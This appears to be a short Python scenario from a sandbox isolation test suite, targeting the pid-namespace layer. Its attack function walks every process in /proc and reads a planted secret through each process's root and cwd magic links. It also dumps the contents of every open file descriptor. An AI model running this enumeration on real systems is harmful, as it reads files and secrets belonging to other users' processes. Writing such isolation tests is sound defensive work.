"""Goes through the magic links of every process that /proc shows: root, cwd, and each open
descriptor.

layer: pid namespace
control: the same user without a sandbox finds the victim process and reads what it holds
"""
import os


def scene(s):
    s.path = s.secret()
    s.args = {"path": s.path, "victim": s.victim()["pid"]}


def attack(a):
    for pid in processes():
        if pid == os.getpid():
            continue
        base = f"/proc/{pid}"
        for name in (f"{base}/root{a['path']}", f"{base}/cwd/{os.path.basename(a['path'])}"):
            try:
                print(slurp(name))
            except OSError:
                pass
        try:
            fds = os.listdir(f"{base}/fd")
        except OSError:
            continue
        for fd in fds:
            try:
                if os.path.isfile(f"{base}/fd/{fd}"):
                    print(slurp(f"{base}/fd/{fd}")[:200])
            except OSError:
                pass
